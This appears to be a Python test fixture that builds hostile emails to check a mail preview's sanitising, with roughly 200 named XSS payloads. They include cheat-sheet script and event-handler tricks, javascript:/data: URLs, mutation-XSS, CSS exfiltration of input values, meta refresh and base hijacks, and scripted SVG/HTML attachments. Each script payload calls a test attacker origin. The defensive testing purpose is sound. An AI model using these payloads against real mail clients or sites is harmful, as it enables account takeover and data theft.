"""Hostile mail for the preview: the OWASP XSS filter evasion cheat sheet's vectors (written
out from it, not fetched), mutation-XSS and CSS-exfiltration tricks, and headers, names and
attachments that carry markup, each a named entry.

Every payload that would run script calls something a test can observe: a request to the
attacker (``%HIT%``), a dialog, ``document.title = 'pwned'``, ``window.__xss`` and a console
line (``%JS%`` does all of them). Payloads that would only load something load ``%HIT%``.
Placeholders are filled in by :func:`render` for one attacker origin and one vector name, so
a hit names the vector that made it.

A vector is sent as the HTML body of a mail, and some also as the plain-text body, the
Subject, the From display name, an attachment's file name and a link's text (its ``places``);
:func:`message` builds the mail for one vector in one place.
"""

from __future__ import annotations

import base64
import html
import re
from collections.abc import Iterator
from dataclasses import dataclass
from urllib.parse import quote

from tests.support.previews import mail
from tests.support.rspamd import SENDER

HTML, TEXT, SUBJECT, FROM_NAME, FILENAME, LINK_TEXT, ATTACHMENT = (
    "html", "text", "subject", "from-name", "filename", "link-text", "attachment",
)  # fmt: skip
EVERYWHERE = (HTML, TEXT, SUBJECT, FROM_NAME, FILENAME, LINK_TEXT)
JS_MARK = "XSS-RAN"  # what %JS% writes to the console


@dataclass(frozen=True)
class Vector:
    """One hostile payload (a template, see :func:`render`) and where it is sent."""

    name: str  # unique, [a-z0-9-]: it names the test case and the attacker's hit
    payload: str
    places: tuple[str, ...] = (HTML,)
    charset: str = ""  # the charset the HTML part declares, where not utf-8
    attachment: tuple[str, str] = ("", "")  # (file name, type) for the ATTACHMENT place
    shows: str = ""  # text the page must show (else, outside HTML, the payload itself)


@dataclass(frozen=True)
class Case:
    """A vector in one place: one held message, one release token."""

    vector: Vector
    place: str

    @property
    def id(self) -> str:
        return self.vector.name if self.place in (HTML, ATTACHMENT) else f"{self.vector.name}@{self.place}"


def _entities(text: str, pattern: str) -> str:
    return "".join(pattern.format(ord(c)) for c in text)


def render(template: str, name: str, origin: str) -> str:
    """``template`` with its placeholders filled in for vector ``name`` and the attacker at
    ``origin`` (``http://host:port``):

    %HIT% the attacker URL naming the vector; %ORIGIN% the attacker's origin; %HOST% the same
    without the scheme (``//host:port``); %JS% script that fetches %HIT%, opens a dialog, sets
    the title and ``window.__xss`` and logs; %JS_B64% / %JS_CHARCODES% that script in base64 /
    as character codes; %JSURL_DEC% / %JSURL_DECPAD% / %JSURL_HEX% ``javascript:%JS%`` as
    decimal entities, zero-padded decimal entities without semicolons, hex entities without
    semicolons; %JS_DEC% the script alone as decimal entities; %SCRIPT_B64% ``<script>%JS%
    </script>`` in base64; %SVG_B64% / %SVG_URL% an SVG document with script, base64 / URL-encoded.
    """
    hit = f"{origin}/hit?{name}"
    js = f"fetch('{hit}');alert(1);document.title='pwned';window.__xss=1;console.log('{JS_MARK}:{name}')"
    svg = (
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js}"><script>{js}</script>'
        f'<image href="{hit}-svg-image" width="10" height="10"/></svg>'
    )
    values = {
        "HIT": hit,
        "ORIGIN": origin,
        "HOST": origin.removeprefix("http:"),
        "JS": js,
        "JS_B64": base64.b64encode(js.encode()).decode(),
        "JS_CHARCODES": ",".join(str(ord(c)) for c in js),
        "JSURL_DEC": _entities("javascript:" + js, "&#{};"),
        "JSURL_DECPAD": _entities("javascript:" + js, "&#{:07d}"),
        "JSURL_HEX": _entities("javascript:" + js, "&#x{:X}"),
        "JS_DEC": _entities(js, "&#{};"),
        "SCRIPT_B64": base64.b64encode(f"<script>{js}</script>".encode()).decode(),
        "SVG_B64": base64.b64encode(svg.encode()).decode(),
        "SVG_URL": quote(svg, safe=""),
    }
    return re.sub(r"%([A-Z][A-Z0-9_]*)%", lambda m: values.get(m.group(1), m.group(0)), template)


def _raw_header(content: bytes, name: bytes, placeholder: bytes, value: str) -> bytes:
    """``content`` with the header ``name: placeholder`` written as ``value``, unfolded and
    byte for byte (no library re-encodes its encoded words)."""
    line = name + b": " + placeholder + b"\r\n"
    assert content.count(line) == 1, (name, content[:300])
    return content.replace(line, name + b": " + value.encode("utf-8") + b"\r\n")


def message(case: Case, origin: str) -> bytes:
    """The mail that carries ``case``'s vector (rendered for ``origin``) in its place."""
    vector, place = case.vector, case.place
    payload = render(vector.payload, vector.name, origin)
    label = f"<p>Vector {vector.name}.</p>"
    if place == HTML:
        content = mail(subject=f"XSS {vector.name}", text=None, html=payload)
        if vector.charset:
            declared = b'Content-Type: text/html; charset="utf-8"'
            assert declared in content
            content = content.replace(declared, f'Content-Type: text/html; charset="{vector.charset}"'.encode())
        return content
    if place == TEXT:
        return mail(subject=f"XSS {vector.name} in the text", text=f"Vector {vector.name}:\n{payload}\n")
    if place == SUBJECT:
        content = mail(subject="SUBJECT-PLACEHOLDER", html=label)
        return _raw_header(content, b"Subject", b"SUBJECT-PLACEHOLDER", payload)
    if place == FROM_NAME:
        content = mail(subject=f"XSS {vector.name} in the display name", from_="FROM-PLACEHOLDER <x@x.example>",
                       html=label)  # fmt: skip
        encoded = payload.startswith("=?")
        name = payload if encoded else '"' + payload.replace("\\", "\\\\").replace('"', '\\"') + '"'
        return _raw_header(content, b"From", b"FROM-PLACEHOLDER <x@x.example>", f"{name} <{SENDER}>")
    if place == FILENAME:
        return mail(subject=f"XSS {vector.name} in a file name", html=label,
                    attachments=[(payload, "application/pdf", b"%PDF-1.4\n%%EOF\n")])  # fmt: skip
    if place == LINK_TEXT:
        anchor = f'<p><a href="https://pay.partner.example/inv">{html.escape(payload)}</a></p>'
        return mail(subject=f"XSS {vector.name} in a link's text", html=label + anchor)
    if place == ATTACHMENT:
        filename, kind = vector.attachment
        return mail(subject=f"XSS {vector.name} as an attachment", html=label,
                    attachments=[(filename, kind, payload.encode())])  # fmt: skip
    raise ValueError(place)


def expected_text(case: Case, origin: str) -> str:
    """What the page must show of a vector outside the HTML body: the payload as text."""
    shown = case.vector.shows or render(case.vector.payload, case.vector.name, origin)
    return " ".join(shown.split())


# Shift_JIS, koi8-r, ISO-8859-1 and UTF-8 encoded words in one header, each carrying part of
# the markup, so only a decoder that joins them builds the tag (which must stay text).
_MIXED = " ".join(
    f"=?{charset}?B?{base64.b64encode(text.encode(charset)).decode()}?="
    for charset, text in (
        ("utf-8", "Grüße <scr"),
        ("iso-8859-1", "ipt>fête "),
        ("koi8-r", "Привет</script>"),
        ("shift_jis", 'こんにちは"><img src=x onerror=alert(1)>'),
    )
)
_MIXED_SHOWN = 'Grüße <script>fête Привет</script>こんにちは"><img src=x onerror=alert(1)>'

_V = Vector
CORPUS: tuple[Vector, ...] = (
    # --- Script tags: casings, splits, sources, and the cheat sheet's malformed openings ---
    _V("script-basic", "<script>%JS%</script>", EVERYWHERE),
    _V("script-upper", "<SCRIPT>%JS%</SCRIPT>"),
    _V("script-mixed-case", "<ScRiPt>%JS%</sCrIpT>"),
    _V("script-src", '<SCRIPT SRC="%ORIGIN%/xss.js"></SCRIPT>'),
    _V("script-src-protocol-relative", "<SCRIPT SRC=%HOST%/xss.js></SCRIPT>"),
    _V("script-nested-split", "<scr<script>ipt>%JS%</scr</script>ipt>"),
    _V("script-slash-attr", '<SCRIPT/XSS SRC="%ORIGIN%/xss.js"></SCRIPT>'),
    _V("script-slash-src", '<SCRIPT/SRC="%ORIGIN%/xss.js"></SCRIPT>'),
    _V("script-extra-brackets", "<<SCRIPT>%JS%//<</SCRIPT>"),
    _V("script-no-close", "<SCRIPT SRC=%ORIGIN%/xss.js?< B >"),
    _V("script-half-open", "<SCRIPT SRC=%HOST%/xss.js"),
    _V("script-attr-gt-dq", '<SCRIPT a=">" SRC="%ORIGIN%/xss.js"></SCRIPT>'),
    _V("script-attr-gt-sq", '<SCRIPT =">" SRC="%ORIGIN%/xss.js"></SCRIPT>'),
    _V("script-attr-gt-mixed", '<SCRIPT a=">\'>" SRC="%ORIGIN%/xss.js"></SCRIPT>'),
    _V("script-attr-gt-grave", '<SCRIPT a=`>` SRC="%ORIGIN%/xss.js"></SCRIPT>'),
    _V("script-document-write", '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="%ORIGIN%/xss.js"></SCRIPT>'),
    _V("script-after-malformed-img", '<IMG """><SCRIPT>%JS%</SCRIPT>">'),
    _V("script-in-title-escape", "</title><script>%JS%</script>"),
    _V("script-in-textarea-escape", "</textarea><script>%JS%</script>"),
    _V("script-defer", "<script defer>%JS%</script>"),
    _V("script-type-module", '<script type="module">%JS%</script>'),
    _V("script-utf7", "+ADw-script+AD4-%JS%+ADw-/script+AD4-", charset="utf-7"),
    _V(
        "script-utf7-meta",
        '<head><meta http-equiv="content-type" content="text/html; charset=UTF-7"></head>'
        "+ADw-script+AD4-%JS%+ADw-/script+AD4-",
    ),  # fmt: skip
    _V(
        "script-polyglot",
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=%JS% )//%0D%0A%0d%0a//</stYle/</titLe/"
        "</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=%JS%//>\\x3e",
        EVERYWHERE,
    ),  # fmt: skip
    # --- Event handlers on images and other elements ---
    _V("img-onerror", "<img src=x onerror=%JS%>"),
    _V("attr-breakout-img-onerror", '"><img src=x onerror=%JS%>', EVERYWHERE),
    _V("img-onerror-slash", '<IMG SRC=/ onerror="%JS%"></img>'),
    _V("img-onerror-entities", '<img src=x onerror="%JS_DEC%">'),
    _V("img-onerror-charcodes", "<IMG SRC=x onerror=eval(String.fromCharCode(%JS_CHARCODES%))>"),
    _V("img-onerror-atob", "<img src=x onerror=eval(atob('%JS_B64%'))>"),
    _V("img-onerror-eval-src", '<img src="x:%JS%" onerror=eval(src.slice(2))>'),
    _V("img-onmouseover-hash", '<IMG SRC=# onmouseover="%JS%">'),
    _V("img-onmouseover-empty", '<IMG SRC= onmouseover="%JS%">'),
    _V("img-onmouseover-no-src", '<IMG onmouseover="%JS%">'),
    _V("img-onload-tracking", '<img src="%HIT%" onload="%JS%" width="1" height="1">'),
    _V("a-onmouseover", '<a onmouseover="%JS%">xxs link</a>'),
    _V("a-onmouseover-unquoted", "<a onmouseover=%JS%>xxs link</a>"),
    _V("body-onload", "<body onload=%JS%>"),
    _V("body-onload-junk-chars", "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=%JS%>"),
    _V("body-onpageshow", "<body onpageshow=%JS%>"),
    _V("svg-onload", "<svg/onload=%JS%>", EVERYWHERE),
    _V("svg-onload-spaced", '<svg onload="%JS%"></svg>'),
    _V("marquee-onstart", "<marquee onstart=%JS%>scrolling</marquee>"),
    _V("details-ontoggle", "<details open ontoggle=%JS%><summary>x</summary>y</details>"),
    _V("video-source-onerror", '<video><source onerror="%JS%"></video>'),
    _V("video-onerror", "<video src=x onerror=%JS%></video>"),
    _V("audio-onerror", "<audio src=x onerror=%JS%></audio>"),
    _V("input-autofocus-onfocus", "<input autofocus onfocus=%JS%>"),
    _V("select-autofocus-onfocus", "<select autofocus onfocus=%JS%><option>x</option></select>"),
    _V("textarea-autofocus-onfocus", "<textarea autofocus onfocus=%JS%>x</textarea>"),
    _V("contenteditable-onfocus", "<div contenteditable autofocus onfocus=%JS%>x</div>"),
    _V("div-onpointerover", "<div onpointerover=%JS% onclick=%JS%>hover me</div>"),
    _V("p-onanimationstart", '<p style="animation-name:x" onanimationstart=%JS%>x</p>'),
    _V("frameset-onload", "<frameset onload=%JS%>"),
    _V("keygen-autofocus", "<keygen autofocus onfocus=%JS%>"),
    _V("isindex-onerror", "<isindex type=image src=1 onerror=%JS%>"),
    _V("isindex-action", '<isindex action="javascript:%JS%" type=submit value=click>'),
    # --- javascript: and other schemes in every attribute that takes a URL ---
    _V("img-src-javascript", '<IMG SRC="javascript:%JS%">'),
    _V("img-src-javascript-unquoted", "<IMG SRC=javascript:%JS%>"),
    _V("img-src-javascript-case", "<IMG SRC=JaVaScRiPt:%JS%>"),
    _V("img-src-javascript-grave", "<IMG SRC=`javascript:%JS%`>"),
    _V("img-src-decimal-entities", "<IMG SRC=%JSURL_DEC%>"),
    _V("img-src-padded-entities", "<IMG SRC=%JSURL_DECPAD%>"),
    _V("img-src-hex-entities", "<IMG SRC=%JSURL_HEX%>"),
    _V("img-dynsrc-lowsrc", '<IMG DYNSRC="javascript:%JS%"><IMG LOWSRC="javascript:%JS%">'),
    _V("a-href-javascript", '<a href="javascript:%JS%">click me</a>', (HTML, TEXT, LINK_TEXT)),
    _V("a-href-javascript-tab", '<a href="jav\tascript:%JS%">tab</a>'),
    _V("a-href-javascript-tab-entity", '<a href="jav&#x09;ascript:%JS%">tab entity</a>'),
    _V("a-href-javascript-newline-entity", '<a href="jav&#x0A;ascript:%JS%">newline entity</a>'),
    _V("a-href-javascript-newline", '<a href="jav\nascript:%JS%">newline</a>'),
    _V("a-href-javascript-cr-entity", '<a href="jav&#x0D;ascript:%JS%">carriage return entity</a>'),
    _V("a-href-javascript-null", '<a href="java&#0;script:%JS%">null</a>'),
    _V("a-href-javascript-leading-junk", '<a href=" &#14;  javascript:%JS%">leading junk</a>'),
    _V("a-href-javascript-colon-entity", '<a href="javascript&colon;%JS%">named colon</a>'),
    _V("a-href-javascript-colon-decimal", '<a href="javascript&#58;%JS%">decimal colon</a>'),
    _V("a-href-javascript-decimal", '<a href="%JSURL_DEC%">decimal</a>'),
    _V("a-href-javascript-padded", '<a href="%JSURL_DECPAD%">padded</a>'),
    _V("a-href-javascript-hex", '<a href="%JSURL_HEX%">hex</a>'),
    _V("a-href-vbscript", '<a href="vbscript:msgbox(1)">vb</a>'),
    _V("a-href-data-html", '<a href="data:text/html;base64,%SCRIPT_B64%">data</a>'),
    _V("a-href-attr-breakout", "<a href='https://a.example/\" onmouseover=\"%JS%'>breakout</a>"),
    _V("a-href-tag-breakout", "<a href='https://a.example/\"><img src=x onerror=%JS%>'>tag breakout</a>"),
    _V("a-href-attacker", '<a href="%HIT%">https://www.mybank.example/</a>', (HTML, TEXT)),
    _V(
        "a-href-ip-obfuscated", '<a href="http://0x7f.0x0.0x0.0x2/hit">hex ip</a><a href="http://2130706434/">dword</a>'
    ),
    _V("a-ping", '<a href="https://a.example/" ping="%HIT%">ping</a>'),
    _V("area-href-javascript", '<map name=m><area shape=rect coords=0,0,9,9 href="javascript:%JS%"></map>'),
    _V("math-href-javascript", '<math href="javascript:%JS%">CLICK</math>'),
    _V("input-image-javascript", '<INPUT TYPE="IMAGE" SRC="javascript:%JS%">'),
    _V("form-action", '<form action="%HIT%"><input name="q" value="secret"><button>Go</button></form>'),
    _V("form-formaction", '<form><button formaction="javascript:%JS%">Go</button></form>'),
    _V("form-autosubmit", '<form id=f action="%HIT%"><input type=submit autofocus></form>'),
    # --- Frames, objects, embeds and data: URLs ---
    _V("iframe-src-javascript", '<IFRAME SRC="javascript:%JS%"></IFRAME>'),
    _V("iframe-onmouseover", '<IFRAME SRC=# onmouseover="%JS%"></IFRAME>'),
    _V("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;%JS%&lt;/script&gt;"></iframe>'),
    _V("iframe-src-data-html", '<iframe src="data:text/html;base64,%SCRIPT_B64%"></iframe>'),
    _V("iframe-src-data-svg", '<iframe src="data:image/svg+xml;base64,%SVG_B64%"></iframe>'),
    _V("iframe-src-attacker", '<iframe src="%HIT%"></iframe>'),
    _V("frameset-frame-javascript", '<FRAMESET><FRAME SRC="javascript:%JS%"></FRAMESET>'),
    _V("object-data-html", '<object data="data:text/html;base64,%SCRIPT_B64%"></object>'),
    _V("object-scriptlet", '<OBJECT TYPE="text/x-scriptlet" DATA="%HIT%"></OBJECT>'),
    _V("object-javascript", '<object data="javascript:%JS%"></object>'),
    _V(
        "embed-svg-data",
        '<EMBED SRC="data:image/svg+xml;base64,%SVG_B64%" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
    ),  # fmt: skip
    _V("embed-src", '<embed src="%HIT%">'),
    _V("applet-code", '<applet code="%HIT%"></applet>'),
    _V("img-src-data-svg", '<img src="data:image/svg+xml;base64,%SVG_B64%">'),
    _V("img-src-data-svg-url", '<img src="data:image/svg+xml,%SVG_URL%">'),
    _V("portal-src", '<portal src="%HIT%"></portal>'),
    # --- SVG and MathML with script inside, and their other script doors ---
    _V("svg-script", "<svg><script>%JS%</script></svg>"),
    _V("svg-script-href", '<svg><script href="%ORIGIN%/xss.js"/></svg>'),
    _V("svg-animate-onbegin", "<svg><animate onbegin=%JS% attributeName=x dur=1s></svg>"),
    _V("svg-set-href", '<svg><a><set attributeName="href" to="javascript:%JS%"/><text y="20">x</text></a></svg>'),
    _V("svg-xlink-href", '<svg><a xlink:href="javascript:%JS%"><text x=20 y=20>XSS</text></a></svg>'),
    _V("svg-foreignobject", "<svg><foreignObject><img src=x onerror=%JS%></foreignObject></svg>"),
    _V("svg-image-href", '<svg><image href="%HIT%" width="10" height="10"/></svg>'),
    _V("svg-use-data", '<svg><use href="data:image/svg+xml;base64,%SVG_B64%#x"/></svg>'),
    _V("math-script", "<math><script>%JS%</script></math>"),
    _V("math-mglyph-style-mxss", "<math><mtext><table><mglyph><style><img src=x onerror=%JS%>"),
    _V(
        "math-mtext-mxss",
        '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>'
        '<img src=x onerror=%JS%>"></style></h1>',
    ),  # fmt: skip
    _V("svg-style-mxss", "<svg><style><img src=x onerror=%JS%></style></svg>"),
    _V("svg-p-style-mxss", '<svg></p><style><a id="</style><img src=x onerror=%JS%>">'),
    # --- Mutation XSS through raw-text elements, templates and comments ---
    _V("template-content", "<template><img src=x onerror=%JS%></template>"),
    _V("template-shadowroot", '<div><template shadowrootmode="open"><img src=x onerror=%JS%></template></div>'),
    _V("noscript-title-mxss", '<noscript><p title="</noscript><img src=x onerror=%JS%>"></noscript>'),
    _V("noembed-mxss", '<noembed><img title="</noembed><img src=x onerror=%JS%>"></noembed>'),
    _V("noframes-mxss", '<noframes><p title="</noframes><img src=x onerror=%JS%>"></noframes>'),
    _V("xmp-mxss", '<xmp><p title="</xmp><img src=x onerror=%JS%>"></xmp>'),
    _V("textarea-mxss", '<textarea><p title="</textarea><img src=x onerror=%JS%>"></textarea>'),
    _V("title-mxss", '<title><p title="</title><img src=x onerror=%JS%>"></title>'),
    _V("style-mxss", '<style><p title="</style><img src=x onerror=%JS%>"></style>'),
    _V("iframe-mxss", '<iframe><p title="</iframe><img src=x onerror=%JS%>"></iframe>'),
    _V("plaintext", "<plaintext><img src=x onerror=%JS%>"),
    _V("comment-short", "<!--><img src=x onerror=%JS%>-->"),
    _V("comment-bang-close", "<!-- --!><img src=x onerror=%JS%>-->"),
    _V("comment-in-attribute", '<img src="x<!--" title="--><img src=x onerror=%JS%>">'),
    _V("cdata-mxss", "<![CDATA[><img src=x onerror=%JS%>]]>"),
    _V("processing-instruction", '<?xml version="1.0"?><?xml-stylesheet href="%ORIGIN%/xss.xsl"?><p>x</p>'),
    _V("comment-tag", '<comment><img src="</comment><img src=x onerror=%JS%//">'),
    # --- Internet Explorer's conditional comments and other old IE doors ---
    _V("ie-downlevel-hidden", "<!--[if gte IE 4]><SCRIPT>%JS%</SCRIPT><![endif]-->"),
    _V("ie-downlevel-revealed", "<![if !IE]><img src=x onerror=%JS%><![endif]>"),
    _V("ie-conditional-plain", "<!--[if]><script>%JS%</script -->"),
    _V(
        "ie-xml-data-island",
        '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:%JS%"></B></I></XML>'
        '<SPAN DATASRC="#xss" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>',
    ),  # fmt: skip
    _V(
        "ie-time-set",
        '<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time">'
        '<?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" '
        'to="XSS<SCRIPT DEFER>%JS%</SCRIPT>"></BODY></HTML>',
    ),  # fmt: skip
    _V("ie-behavior", '<XSS STYLE="behavior: url(%HIT%);">x</XSS>'),
    _V("bgsound-layer", '<BGSOUND SRC="javascript:%JS%"><LAYER SRC="%HIT%"></LAYER><ILAYER SRC="%HIT%"></ILAYER>'),
    # --- Style sheets, @import, url(), expression() and CSS exfiltration ---
    _V("style-import", "<STYLE>@import'%ORIGIN%/xss.css';</STYLE>"),
    _V("style-import-escaped", "<STYLE>@im\\port'\\ja\\vasc\\ript:%JS%';</STYLE>"),
    _V("style-import-url", '<style>@import url("%HIT%");</style>'),
    _V("style-body-background", '<STYLE type="text/css">BODY{background:url("%HIT%")}</STYLE>'),
    _V("style-list-style-image", '<STYLE>li {list-style-image: url("javascript:%JS%");}</STYLE><UL><LI>XSS</br>'),
    _V("style-class-background", '<STYLE>.XSS{background-image:url("javascript:%JS%");}</STYLE><A CLASS=XSS></A>'),
    _V("style-moz-binding", '<STYLE>BODY{-moz-binding:url("%HIT%#xss")}</STYLE>'),
    _V("style-type-javascript", '<STYLE TYPE="text/javascript">%JS%;</STYLE>'),
    _V("style-font-face", "<style>@font-face{font-family:x;src:url(%HIT%)}p{font-family:x}</style><p>text</p>"),
    _V("style-image-set", '<style>body{background-image:image-set("%HIT%" 1x)}</style>'),
    _V(
        "css-exfil-attribute-selectors",
        '<style>input[value^="a"]{background:url(%HIT%-a)}input[value^="s"]{background:url(%HIT%-s)}'
        'a[title^="h"]{background:url(%HIT%-t)}</style><input name="pw" value="secret">'
        '<a title="hidden">x</a>',
    ),  # fmt: skip
    _V("css-exfil-inline-attribute", '<p style="background:url(%HIT%)">x</p>'),
    _V("link-stylesheet", '<LINK REL="stylesheet" HREF="%ORIGIN%/xss.css">'),
    _V("link-stylesheet-javascript", '<LINK REL="stylesheet" HREF="javascript:%JS%">'),
    _V(
        "link-prefetch-preload",
        '<link rel=prefetch href="%HIT%-prefetch"><link rel=preload as=image '
        'href="%HIT%-preload"><link rel=dns-prefetch href="%HOST%">',
    ),  # fmt: skip
    _V("link-import", '<link rel=import href="%HIT%">'),
    _V("meta-link-header", '<META HTTP-EQUIV="Link" Content="<%ORIGIN%/xss.css>; REL=stylesheet">'),
    _V("inline-background-image", '<DIV STYLE="background-image: url(%HIT%)">x</DIV>'),
    _V("inline-background-javascript", '<DIV STYLE="background-image: url(javascript:%JS%)">x</DIV>'),
    _V(
        "inline-background-css-escapes", "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'%HIT%'\\0029\">x</DIV>"
    ),
    _V("inline-background-control-char", '<DIV STYLE="background-image: url(&#1;javascript:%JS%)">x</DIV>'),
    _V("inline-expression", '<DIV STYLE="width: expression(%JS%);">x</DIV>'),
    _V("inline-expression-comment", '<IMG STYLE="xss:expr/*XSS*/ession(%JS%)">'),
    _V("inline-expression-allowed-property", '<p style="background-color:expression(%JS%)">x</p>'),
    _V("inline-escaped-expression", '<p style="color:\\65xpression(%JS%)">x</p>'),
    _V("inline-url-in-allowed-property", '<p style="background-color:url(%HIT%);border:1px solid url(%HIT%)">x</p>'),
    _V("inline-comment-split-property", '<p style="color:red;back/**/ground:url(%HIT%)">x</p>'),
    _V(
        "inline-more-url-properties",
        '<p style="list-style-image:url(%HIT%-1);content:url(%HIT%-2);cursor:url(%HIT%-3),auto;'
        'border-image:url(%HIT%-4) 30;mask-image:url(%HIT%-5);filter:url(%HIT%-6)">x</p>',
    ),  # fmt: skip
    _V("inline-custom-property", '<p style="--x:url(%HIT%);background-color:var(--x)">x</p>'),
    _V("inline-entity-url", '<p style="background:u&#114;l(%HIT%)">x</p>'),
    # --- Page-wide tags: meta refresh, base, and others that reach outside the document ---
    _V("meta-refresh-javascript", '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:%JS%;">'),
    _V("meta-refresh-data", '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,%SCRIPT_B64%">'),
    _V("meta-refresh-url", '<meta http-equiv="refresh" content="0;url=%HIT%">'),
    _V("meta-refresh-double-url", '<META HTTP-EQUIV="refresh" CONTENT="0; URL=%HIT%;URL=javascript:%JS%;">'),
    _V("meta-set-cookie", '<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>%JS%</SCRIPT>">'),
    _V(
        "meta-referrer-csp",
        '<meta name="referrer" content="unsafe-url"><meta http-equiv="Content-Security-Policy" '
        "content=\"default-src *; script-src 'unsafe-inline'\"><script>%JS%</script>",
    ),  # fmt: skip
    _V("base-href", '<BASE HREF="%ORIGIN%/"><img src="base-relative.png"><a href="base-relative">x</a>'),
    _V("base-href-javascript", '<BASE HREF="javascript:%JS%//"><a href="x">x</a>'),
    # --- background= attributes, srcset, posters and other loaders ---
    _V("body-background", '<BODY BACKGROUND="%HIT%">x</BODY>'),
    _V("body-background-javascript", '<BODY BACKGROUND="javascript:%JS%">'),
    _V("table-background", '<TABLE BACKGROUND="%HIT%"><TR><TD>x</TD></TR></TABLE>'),
    _V("td-background", '<TABLE><TR><TD BACKGROUND="%HIT%">x</TD></TR></TABLE>'),
    _V("img-srcset", '<img srcset="%HIT%-1x 1x, %HIT%-2x 2x" alt="srcset">'),
    _V("picture-source-srcset", '<picture><source srcset="%HIT%-source"><img src="%HIT%-img" alt="p"></picture>'),
    _V("video-poster", '<video poster="%HIT%"></video>'),
    _V("input-image-src", '<input type=image src="%HIT%">'),
    _V("img-src-attacker", '<img src="%HIT%" alt="tracking pixel" width="1" height="1">'),
    _V("img-src-protocol-relative", '<img src="%HOST%/hit?img-src-protocol-relative-2">'),
    _V("img-src-spaced", '<img src="  %HIT%  ">'),
    _V("img-referrerpolicy", '<img src="%HIT%" referrerpolicy="unsafe-url">'),
    _V("img-src-cid", '<img src="cid:logo@partner.example" alt="logo">'),
    # --- Attachments a browser would run ---
    _V(
        "svg-attachment",
        '<svg xmlns="http://www.w3.org/2000/svg" onload="%JS%"><script>%JS%</script>'
        '<image href="%HIT%" width="10" height="10"/></svg>',
        (ATTACHMENT,),
        attachment=("drawing.svg", "image/svg+xml"),
    ),  # fmt: skip
    _V(
        "html-attachment",
        "<html><body onload=%JS%><script>%JS%</script></body></html>",
        (ATTACHMENT,),
        attachment=("invoice.html", "text/html"),
    ),  # fmt: skip
    # --- Text that a template engine or a careless page would run ---
    _V("template-syntax", "{{7*7}} ${7*7} <%= 7*7 %> {% raw %}#{7*7}", (TEXT, SUBJECT, FROM_NAME, FILENAME, LINK_TEXT)),
    _V("mixed-charset-words", _MIXED, (SUBJECT, FROM_NAME), shows=_MIXED_SHOWN),
)


def cases() -> Iterator[Case]:
    """Every vector in each of its places."""
    names = [v.name for v in CORPUS]
    assert len(names) == len(set(names)), "vector names must be unique"
    assert all(re.fullmatch(r"[a-z0-9-]+", n) for n in names)
    for vector in CORPUS:
        for place in vector.places:
            yield Case(vector, place)
